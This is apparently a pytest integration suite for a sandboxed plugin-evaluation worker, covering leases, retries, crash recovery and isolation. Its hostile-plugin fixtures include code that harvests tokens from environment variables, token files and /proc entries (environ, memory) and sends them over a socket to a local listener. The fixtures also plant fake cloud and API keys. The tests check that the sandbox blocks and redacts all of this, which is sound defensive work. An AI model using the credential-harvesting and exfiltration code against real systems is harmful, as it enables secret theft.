"""The evaluation worker end to end, against the stand-in hub with a requests and a results dataset: real
plugin wheels installed from a local index into the sandbox's venv, NegConstraint-shaped local data.

- submit, then `worker --once`: the results are in the results dataset and the request is finished;
- two worker processes race for one request: exactly one runs it;
- a worker killed with kill -9 mid-run: its lease expires and another worker retries the request;
- a worker killed with kill -9 right after its push landed: the retry finishes the request with those
  results (its receipt in the results dataset), running and pushing nothing;
- hostile plugins (sys.exit, an endless loop, 10 GB, hunting for tokens, writing outside its folder) each
  fail their own request with the reason; the worker goes on; no token in any log;
- in both isolation modes: an impostor (a request for "impostor" whose plugin names its model bm25 at
  9.9.9) publishes nothing; a spy reading the worker's /proc entries and token file and sending them to a
  listener on 127.0.0.1 gets no secret, and what it prints is redacted from everything published;
- a plugin whose import outlasts the load limit: the request is retried as the worker's failure.
"""

import ast
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from app_fixtures import write_negconstraint
from conftest import HUB_TOKEN, run_cli
from hub_server import HubServer
from queue_fixtures import BENCHMARK, REQUESTS, RESULTS, WORD_OVERLAP, build_wheel, hostile_plugin, hub_env

from leaderboard.queue.dataset import RequestsDataset
from leaderboard.queue.sandbox import bwrap_available
from leaderboard.queue.submit import Submission, submit
from leaderboard.queue.worker import Worker, WorkerSettings
from leaderboard.records.files import read_result

pytestmark = [
    pytest.mark.venv,  # the queue installs each plugin into a fresh venv in its sandbox
    pytest.mark.usefixtures("hub_online"),
    pytest.mark.skipif(not bwrap_available(), reason="bubblewrap cannot run here (.ci/run installs it)"),
]
SECRETS = {"AWS_SECRET_ACCESS_KEY": "aws-secret-value-0123456789", "MY_API_KEY": "my-api-key-value-0123456789"}


def wait_for(condition, what, timeout=300):
    """Poll a state (never sleep a fixed time): the hub's, a process's, a file's."""
    deadline = time.monotonic() + timeout
    while not (value := condition()):
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.2)
    return value


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("queue-world")
    wheels = root / "wheels"
    build_wheel(root / "src", wheels, "leaderboard-word-overlap", "leaderboard_word_overlap", WORD_OVERLAP, "0.3.0")
    write_negconstraint(root / "data")
    return root


@pytest.fixture
def hub():
    with HubServer() as server:
        yield server


def index(world):
    return ("--no-index", f"--find-links={world / 'wheels'}")


def request(hub, world, plugin, model, contact="me@example.org"):
    ds = RequestsDataset(REQUESTS, hub.endpoint, HUB_TOKEN)
    ds.ensure_exists()
    return submit(ds, Submission(plugin, model, (BENCHMARK,), contact), pip_index_args=index(world))


def state(hub, request_id):
    return RequestsDataset(REQUESTS, hub.endpoint, HUB_TOKEN).snapshot().requests[request_id]


def dataset_files(hub, repo):
    repo_state = hub.state.repos[repo]
    return dict(repo_state.files)


def worker_args(world, *extra):
    data = world / "data"
    return ("worker", "--requests", REQUESTS, "--results", RESULTS, "--data-dir", f"negconstraint={data}",
            *(f"--pip-arg={a}" for a in index(world)), *extra)  # fmt: skip


def start_worker(world, tmp_path, name, *extra, **popen):
    """`leaderboard worker --worker-id NAME` in its own process, with its own work folder, on the stand-in hub."""
    args = worker_args(world, "--worker-id", name, *extra, "--work-dir", str(tmp_path / name))
    return subprocess.Popen([sys.executable, "-m", "leaderboard", *args], **popen)


def rescue(hub, world, tmp_path, request_id, lease, env):
    """A second worker, "rescuer", polls until the request is settled: (the request then, what the worker printed)."""
    rescuer = start_worker(world, tmp_path, "rescuer", *lease, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                           text=True, env=env)  # fmt: skip
    try:
        final = wait_for(lambda: (r := state(hub, request_id)).status in ("finished", "failed") and r, "the retry")
    finally:
        rescuer.terminate()
        output = rescuer.communicate(timeout=60)[0]
    return final, output


def test_submit_then_worker_once_publishes_the_results_and_finishes_the_request(hub, world, tmp_path):
    env = hub_env(hub.endpoint)
    RequestsDataset(REQUESTS, hub.endpoint, HUB_TOKEN).ensure_exists()
    submitted = run_cli(
        "submit", "--plugin", "leaderboard-word-overlap==0.3.0", "--model", "word-overlap", "--benchmark", BENCHMARK,
        "--contact", "me@example.org", "--requests", REQUESTS, "--find-links", str(world / "wheels"), env=env,
    )  # fmt: skip
    assert submitted.returncode == 0, submitted.stderr
    ran = run_cli(*worker_args(world, "--once", "--work-dir", str(tmp_path / "work")), env=env)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    (request_id,) = RequestsDataset(REQUESTS, hub.endpoint, HUB_TOKEN).snapshot().requests
    final = state(hub, request_id)
    assert final.status == "finished", final.failure
    assert final.results == ["results/word-overlap/0.3.0/negconstraint.json"] and final.results_repo == RESULTS
    assert [e.status for e in final.history] == ["pending", "running", "finished"]
    assert f"{request_id} finished: 1 result file(s)" in ran.stdout

    published = dataset_files(hub, RESULTS)
    copy = tmp_path / "published.json"
    copy.write_bytes(published["results/word-overlap/0.3.0/negconstraint.json"])
    result = read_result(copy)
    assert result.is_complete and result.task.name == "negconstraint"
    assert (result.model.name, result.model.plugin_version) == ("word-overlap", "0.3.0")
    assert {"benchmarks.json", "data/results.parquet", "README.md"} <= set(published)
    assert "NegConstraint" in {b["name"] for b in json.loads(published["benchmarks.json"])}
    log = dataset_files(hub, REQUESTS)[final.log].decode()
    assert "Successfully installed leaderboard-word-overlap-0.3.0" in log and "nDCG@10" in log
    assert not (tmp_path / "work" / request_id).exists()  # the sandbox folder is removed once settled
    for text in (submitted.stdout, submitted.stderr, ran.stdout, ran.stderr, log):
        assert HUB_TOKEN not in text


def test_two_worker_processes_race_for_one_request_and_exactly_one_runs_it(hub, world, tmp_path):
    submitted = request(hub, world, "leaderboard-word-overlap==0.3.0", "word-overlap")
    env = hub_env(hub.endpoint)
    pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True, "env": env}
    procs = [start_worker(world, tmp_path, name, "--once", **pipes) for name in ("racer-a", "racer-b")]
    outputs = [proc.communicate(timeout=600) for proc in procs]
    assert [proc.returncode for proc in procs] == [0, 0], outputs
    final = state(hub, submitted.id)
    assert final.status == "finished" and final.attempts == 1
    assert [e.status for e in final.history] == ["pending", "running", "finished"]
    ran = [name for name, (out, _) in zip(("racer-a", "racer-b"), outputs) if f"{submitted.id} finished" in out]
    idle = [name for name, (_, err) in zip(("racer-a", "racer-b"), outputs) if "no pending request" in err]
    assert (
        len(ran) == 1 and ran[0] == final.history[1].by and idle == [n for n in ("racer-a", "racer-b") if n not in ran]
    )


def _sandbox_processes(folder: Path) -> list[int]:
    """Processes whose command line names ``folder`` (the killed worker's sandbox)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if str(folder).encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def test_a_worker_killed_mid_run_leaves_a_lease_that_expires_and_another_worker_retries(hub, world, tmp_path):
    gate = tmp_path / "gate"
    gate.write_text("the plugin waits while this file exists")
    body = f"""
        import os, time
        open("reached-gate", "w").close()  # in its own folder: the test sees the run is under way
        while os.path.exists({str(gate)!r}):
            time.sleep(0.05)
    """
    build_wheel(
        tmp_path / "src", world / "wheels", "gated-model", "gated_model", hostile_plugin("gated", body), "1.0.0"
    )
    submitted = request(hub, world, "gated-model==1.0.0", "gated")
    env = hub_env(hub.endpoint)
    lease = ("--lease", "4", "--poll", "0.5")
    first = start_worker(world, tmp_path, "doomed", "--once", *lease, stdout=subprocess.DEVNULL,
                         stderr=(tmp_path / "doomed.log").open("w"), env=env)  # fmt: skip
    # Mid-run: the plugin is in its search and the worker has renewed its lease with a heartbeat commit.
    wait_for(lambda: list((tmp_path / "doomed").glob("*/reached-gate")) or first.poll() is not None, "the start")
    assert first.poll() is None, (tmp_path / "doomed.log").read_text()
    wait_for(lambda: state(hub, submitted.id).lease.heartbeat > state(hub, submitted.id).lease.claimed_at,
             "a heartbeat commit")  # fmt: skip
    first.send_signal(signal.SIGKILL)
    first.wait(timeout=60)
    sandbox = tmp_path / "doomed" / submitted.id
    wait_for(lambda: not _sandbox_processes(sandbox), "the killed worker's sandbox to die with it")
    assert state(hub, submitted.id).status == "running"  # nobody settled it: the lease is left to expire
    gate.unlink()
    final, output = rescue(hub, world, tmp_path, submitted.id, lease, env)
    assert final.status == "finished", (final.failure, output)
    assert final.attempts == 2 and [e.by for e in final.history] == ["submit", "doomed", "rescuer", "rescuer"]
    assert "claimed (attempt 2 of 3); the lease of doomed expired" in final.history[2].note
    assert HUB_TOKEN not in output


def hold_settling_commits(hub, worker_id):
    """The stand-in hub holds ``worker_id``'s commit that settles a request, and never applies it.

    The worker then hangs between its push (landed) and marking the request finished: the window a
    kill -9 must hit. ``held`` is set when that commit arrives; ``release`` answers it with HTTP 503.
    """
    held, release = threading.Event(), threading.Event()
    base = hub.server.RequestHandlerClass

    class Holding(base):
        def do_POST(self):
            if self.path.startswith(f"/api/datasets/{REQUESTS}/commit/"):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self._body = lambda: body
                header = next(json.loads(line) for line in body.decode().splitlines() if '"header"' in line)
                if header["value"]["summary"].startswith((f"{worker_id}: finished", f"{worker_id}: failed")):
                    held.set()
                    release.wait(timeout=600)
                    return self._send(503, {"error": "held by the test"})
            return super().do_POST()

    hub.server.RequestHandlerClass = Holding
    return held, release


def test_a_worker_killed_right_after_its_push_landed_is_finished_by_the_retry_without_a_second_run(
    hub, world, tmp_path
):
    submitted = request(hub, world, "leaderboard-word-overlap==0.3.0", "word-overlap")
    held, release = hold_settling_commits(hub, "doomed")
    env = hub_env(hub.endpoint)
    lease = ("--lease", "4", "--poll", "0.5")
    first = start_worker(world, tmp_path, "doomed", "--once", *lease, stdout=subprocess.DEVNULL,
                         stderr=(tmp_path / "doomed.log").open("w"), env=env)  # fmt: skip
    receipt = f"queue/{submitted.id}.json"
    try:
        wait_for(lambda: held.is_set() or first.poll() is not None, "the worker's push and its settling commit")
        assert first.poll() is None, (tmp_path / "doomed.log").read_text()
        assert receipt in dataset_files(hub, RESULTS)  # the push landed: results and receipt in one commit
        first.send_signal(signal.SIGKILL)
        first.wait(timeout=60)
    finally:
        release.set()
    pushed = dataset_files(hub, RESULTS)
    pushes = list(hub.state.repos[RESULTS].history)
    assert state(hub, submitted.id).status == "running"  # the finish never landed

    final, output = rescue(hub, world, tmp_path, submitted.id, lease, env)
    assert final.status == "finished", (final.failure, output)
    assert final.attempts == 2 and [e.by for e in final.history] == ["submit", "doomed", "rescuer", "rescuer"]
    assert final.results == ["results/word-overlap/0.3.0/negconstraint.json"]
    assert final.history[-1].note == f"1 result file(s) pushed by attempt 1 (doomed): receipt {RESULTS}/{receipt}"
    assert hub.state.repos[RESULTS].history == pushes and dataset_files(hub, RESULTS) == pushed  # nothing re-pushed
    assert "installing" not in output and "running word-overlap" not in output  # nor re-run
    assert json.loads(pushed[receipt])["files"].keys() == {"results/word-overlap/0.3.0/negconstraint.json"}
    assert HUB_TOKEN not in output


HOSTILE = {
    "sys-exit": ("import sys\nsys.exit(3)", "sys.exit(3)"),
    "endless": ("while True:\n    pass", "time limit exceeded: stopped after 15 s"),
    "greedy": ("blob = bytearray(10 * 1024 ** 3)", "ran out of memory: the limit is 4 GiB (MemoryError)"),
    "snoop": (None, "found 0 secret(s): []"),
    "vandal": (None, "Read-only file system"),
}


def _snoop(token_file: Path) -> str:
    return f"""
        import os
        words = ("TOKEN", "KEY", "SECRET", "PASSWORD", "AWS")
        found = {{k: v for k, v in os.environ.items() if any(w in k.upper() for w in words) and v}}
        for path in ({str(token_file)!r}, os.path.expanduser("~/.cache/huggingface/token"),
                     "/proc/{os.getpid()}/environ", "/proc/1/environ", "/proc/self/environ"):
            try:
                text = open(path, "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            if "hf_" in text or "secret-value" in text:
                found[path] = text
        print("leaking", found, "and a token-looking string hf_PrintedByThePlugin12345")
        raise RuntimeError(f"found {{len(found)}} secret(s): {{sorted(found)}}")
    """


def _vandal(canary: Path, data: Path) -> str:
    return f"""
        for path in ({str(canary)!r}, {str(data / "corpus.jsonl")!r}):
            with open(path, "a") as handle:
                handle.write("pwned")
    """


def test_hostile_plugins_fail_their_own_requests_with_the_reason_and_leak_no_token(hub, world, tmp_path, monkeypatch):
    import huggingface_hub.constants

    hf_home = tmp_path / "worker-hf-home"  # the worker's own token file: hidden from runs
    hf_home.mkdir()
    (hf_home / "token").write_text(HUB_TOKEN)
    monkeypatch.setattr(huggingface_hub.constants, "HF_HOME", str(hf_home))
    monkeypatch.setattr(huggingface_hub.constants, "HF_TOKEN_PATH", str(hf_home / "token"))
    monkeypatch.setenv("HF_TOKEN", HUB_TOKEN)
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    data = tmp_path / "data"
    shutil.copytree(world / "data", data)
    before = {p.name: p.read_bytes() for p in data.iterdir()}
    canary = tmp_path / "outside" / "pwned.txt"
    canary.parent.mkdir()
    bodies = {name: body for name, (body, _) in HOSTILE.items()} | {
        "snoop": _snoop(hf_home / "token"), "vandal": _vandal(canary, data)
    }  # fmt: skip

    lines = []
    settings = WorkerSettings(
        REQUESTS, RESULTS, hub.endpoint, HUB_TOKEN, worker_id="w", data_dirs=(f"negconstraint={data}",),
        pip_args=index(world), memory_gb=4, time_limit=600, work_dir=tmp_path / "work",
    )  # fmt: skip
    worker = Worker(settings, lines.append)
    settled = {}
    for name in [*HOSTILE, "good"]:
        if name == "good":
            submitted = request(hub, world, "leaderboard-word-overlap==0.3.0", "word-overlap", "good@example.org")
        else:
            dist = f"hostile-{name}"
            build_wheel(tmp_path / "src", world / "wheels", dist, dist.replace("-", "_"),
                        hostile_plugin(name, bodies[name]), "1.0.0")  # fmt: skip
            submitted = request(hub, world, f"{dist}==1.0.0", name, f"{name}@example.org")
        settings.time_limit = 15 if name == "endless" else 600
        (final,) = worker.run(once=True)  # the worker goes on to the next request after each failure
        assert final.id == submitted.id
        settled[name] = final

    for name, (_, reason) in HOSTILE.items():
        assert settled[name].status == "failed", name
        assert reason in settled[name].failure, (name, settled[name].failure)
        assert settled[name].failure.startswith("the evaluation failed: "), settled[name].failure
    assert settled["good"].status == "finished", settled["good"].failure
    assert not canary.exists() and {p.name: p.read_bytes() for p in data.iterdir()} == before
    published = dataset_files(hub, RESULTS)
    assert [p for p in published if p.startswith("results/") and p.endswith("negconstraint.json")] == [
        "results/word-overlap/0.3.0/negconstraint.json"
    ]

    files = dataset_files(hub, REQUESTS)
    snoop_log = files[settled["snoop"].log].decode()
    assert "leaking {} and a token-looking string ***" in snoop_log and "PrintedByThePlugin" not in snoop_log
    texts = [data.decode("utf-8", "replace") for data in files.values()] + lines
    for secret in (HUB_TOKEN, *SECRETS.values()):
        assert not [t for t in texts if secret in t], secret


def test_without_bubblewrap_limits_and_environment_hold_and_a_changed_data_folder_is_detected(
    hub, world, tmp_path, monkeypatch
):
    """Isolation "process": no read-only file system, so a write into the task data succeeds but is detected.

    The worker holds its token in memory only (this mode refuses to start with HF_TOKEN or a token file)."""
    data = tmp_path / "data"
    shutil.copytree(world / "data", data)
    body = f"""
        import os
        found = [k for k in os.environ if any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET", "AWS"))]
        if found:
            raise RuntimeError(f"found {{found}}")
        with open({str(data / "corpus.jsonl")!r}, "a") as handle:
            handle.write("")  # nothing added: the write itself is what is detected
        os.utime({str(data / "corpus.jsonl")!r})
    """
    build_wheel(tmp_path / "src", world / "wheels", "quiet-vandal", "quiet_vandal", hostile_plugin("quiet", body),
                "1.0.0")  # fmt: skip
    submitted = request(hub, world, "quiet-vandal==1.0.0", "quiet")
    settings = WorkerSettings(
        REQUESTS, RESULTS, hub.endpoint, HUB_TOKEN, data_dirs=(f"negconstraint={data}",), pip_args=index(world),
        isolation="process", work_dir=tmp_path / "work",
    )  # fmt: skip
    (final,) = Worker(settings, lambda line: None).run(once=True)
    assert final.id == submitted.id and final.status == "failed"
    assert final.failure == f"the evaluation failed: wrote outside its folder: changed {data / 'corpus.jsonl'}"
    assert not [p for p in dataset_files(hub, RESULTS) if p.startswith("results/")]


def isolation_modes():
    """bwrap where bubblewrap runs, and process (limits only) everywhere."""
    return [pytest.param("bwrap", marks=pytest.mark.skipif(not bwrap_available(), reason="no bubblewrap")), "process"]


def mode_worker(hub, world, tmp_path, isolation, monkeypatch, **changes) -> Worker:
    """A worker in ``isolation``: with bwrap it holds HF_TOKEN and other secrets in its environment; in process
    mode (which refuses those) only the token, in memory, as `--token-stdin` gives it."""
    import huggingface_hub.constants

    hf_home = tmp_path / "worker-hf-home"
    hf_home.mkdir(exist_ok=True)
    monkeypatch.setattr(huggingface_hub.constants, "HF_TOKEN_PATH", str(hf_home / "token"))
    monkeypatch.setattr(huggingface_hub.constants, "HF_STORED_TOKENS_PATH", str(hf_home / "stored_tokens"))
    if isolation == "bwrap":
        (hf_home / "token").write_text(HUB_TOKEN)
        monkeypatch.setenv("HF_TOKEN", HUB_TOKEN)
        for name, value in SECRETS.items():
            monkeypatch.setenv(name, value)
    settings = WorkerSettings(
        REQUESTS, RESULTS, hub.endpoint, HUB_TOKEN, worker_id=f"w-{isolation}",
        data_dirs=(f"negconstraint={world / 'data'}",), pip_args=index(world), isolation=isolation,
        work_dir=tmp_path / "work", **changes,
    )  # fmt: skip
    return Worker(settings, lambda line: None)


@pytest.mark.parametrize("isolation", isolation_modes())
def test_an_impostor_plugin_publishes_nothing_in_either_mode(hub, world, tmp_path, monkeypatch, isolation):
    source = hostile_plugin("impostor", "pass").replace(
        'ModelMetadata("impostor", ModelKind.SPARSE, revision="1.0.0"',
        'ModelMetadata("bm25", ModelKind.SPARSE, revision="9.9.9"',
    )
    assert 'ModelMetadata("bm25"' in source
    build_wheel(tmp_path / "src", world / "wheels", f"impostor-{isolation}", f"impostor_{isolation}", source, "1.0.0")
    submitted = request(hub, world, f"impostor-{isolation}==1.0.0", "impostor")
    (final,) = mode_worker(hub, world, tmp_path, isolation, monkeypatch).run(once=True)
    assert final.id == submitted.id and final.status == "failed"
    assert final.failure == (
        "the run's results are of model 'bm25' at revision '9.9.9', but the request is for 'impostor'; "
        "a request publishes only the model it names"
    )
    assert not [p for p in dataset_files(hub, RESULTS) if p.startswith("results/")]  # no result, no model card


class Listener:
    """A TCP listener on 127.0.0.1 keeping every byte sent to it: where a spy sends what it found."""

    def __init__(self):
        import socket

        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = bytearray()
        self.closed = 0  # connections read to their end
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                while chunk := conn.recv(65536):
                    self.received += chunk
            self.closed += 1

    def close(self):
        self.server.close()


PRINTED = {
    "github": "ghp_" + "G1thubT0ken" * 3 + "abc",
    "github fine-grained": "github_pat_11AAAAAAA0" + "x" * 40,
    "aws": "AKIAIOSFODNN7EXAMPLE",
    "openai": "sk-proj-" + "Op3nAiKey" * 5,
    "slack": "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
}


def _spy(worker_pid: int, token_file: Path, port: int) -> str:
    """Reads the worker's /proc entries (and its ancestors') and the token file, sends them to the listener,
    prints them and every secret the test planted in it, then fails with a token in its error."""
    planted = [*SECRETS.values(), HUB_TOKEN, *PRINTED.values()]
    return f"""
        import os, socket
        found = {{}}
        pids = [{worker_pid}, os.getppid()]
        for pid in pids:
            for entry in ("environ", "cmdline", "maps", "mem"):
                try:
                    with open(f"/proc/{{pid}}/{{entry}}", "rb") as handle:
                        found[f"/proc/{{pid}}/{{entry}}"] = handle.read(1 << 20)
                except OSError as exc:
                    found[f"/proc/{{pid}}/{{entry}}"] = repr(exc).encode()
        for path in ({str(token_file)!r}, os.path.expanduser("~/.cache/huggingface/token")):
            try:
                found[path] = open(path, "rb").read()
            except OSError as exc:
                found[path] = repr(exc).encode()
        with socket.create_connection(("127.0.0.1", {port}), timeout=30) as conn:
            conn.sendall(repr(found).encode())
        print("spy read:", {{k: v[:200] for k, v in found.items()}})
        print("planted:", {planted!r})
        raise RuntimeError("spy done; token " + {HUB_TOKEN!r} + " and " + {PRINTED["github"]!r})
    """


@pytest.mark.parametrize("isolation", isolation_modes())
def test_a_spy_reading_the_workers_proc_and_token_file_gets_no_secret_and_its_prints_are_redacted(
    hub, world, tmp_path, monkeypatch, isolation
):
    listener = Listener()
    try:
        runner = mode_worker(hub, world, tmp_path, isolation, monkeypatch)
        body = _spy(os.getpid(), tmp_path / "worker-hf-home" / "token", listener.port)
        build_wheel(tmp_path / "src", world / "wheels", f"spy-{isolation}", f"spy_{isolation}",
                    hostile_plugin("spy", body), "1.0.0")  # fmt: skip
        submitted = request(hub, world, f"spy-{isolation}==1.0.0", "spy")
        (final,) = runner.run(once=True)
        wait_for(lambda: listener.closed, "the spy's report", timeout=60)
    finally:
        listener.close()
    assert final.id == submitted.id and final.status == "failed"
    sent = bytes(listener.received)
    report = ast.literal_eval(sent.decode())  # the spy ran and reported what it could read
    for secret in (HUB_TOKEN, *SECRETS.values()):
        assert secret.encode() not in sent, secret  # nothing of the worker's reached the spy
    if isolation == "process":  # the worker is not dumpable: its environment and memory are closed to the spy
        for entry in ("environ", "maps", "mem"):
            assert report[f"/proc/{os.getpid()}/{entry}"].startswith(b"PermissionError"), report
    else:  # a fresh /proc in its own PID namespace: the worker is not there
        assert report[f"/proc/{os.getpid()}/environ"].startswith((b"FileNotFoundError", b"PermissionError")), report
    published = dataset_files(hub, REQUESTS)
    log = published[final.log].decode()
    assert "spy read:" in log and "planted:" in log  # the prints are published, redacted
    texts = [data.decode("utf-8", "replace") for data in published.values()] + [final.failure]
    held = (HUB_TOKEN, *SECRETS.values()) if isolation == "bwrap" else (HUB_TOKEN,)  # process mode refuses others
    for secret in (*held, *PRINTED.values()):
        assert not [t for t in texts if secret in t], secret
    assert "RuntimeError: spy done; token *** and ***" in final.failure


@pytest.mark.parametrize("isolation", isolation_modes())
def test_a_slow_plugin_load_is_retried_as_the_workers_failure_not_the_plugins(
    hub, world, tmp_path, monkeypatch, isolation
):
    gate = tmp_path / "gate"
    gate.write_text("the plugin's import waits while this file exists")
    source = hostile_plugin("slow-load", "pass").replace(
        "from leaderboard import", f"import os, time\nwhile os.path.exists({str(gate)!r}):\n    time.sleep(0.05)\n"
        "from leaderboard import", 1)  # fmt: skip
    dist = f"slow-load-{isolation}"
    build_wheel(tmp_path / "src", world / "wheels", dist, dist.replace("-", "_"), source, "1.0.0")
    submitted = request(hub, world, f"{dist}==1.0.0", "slow-load")
    runner = mode_worker(hub, world, tmp_path, isolation, monkeypatch, plugin_timeout=2)
    (retried,) = runner.run(once=True)
    assert retried.id == submitted.id and retried.status == "pending" and retried.attempts == 1, retried.failure
    assert retried.history[-1].note == (
        f"the worker's own failure (not the plugin's): plugin '{dist}' did not finish loading within 2 s "
        "on this worker; to be retried (attempt 1 of 3)"
    )
    assert "Unknown model 'slow-load'" in dataset_files(hub, REQUESTS)[retried.log].decode()
    gate.unlink()  # a machine with time to spare: the next attempt loads it
    (final,) = runner.run(once=True)
    assert final.id == submitted.id and final.status == "finished" and final.attempts == 2, final.failure
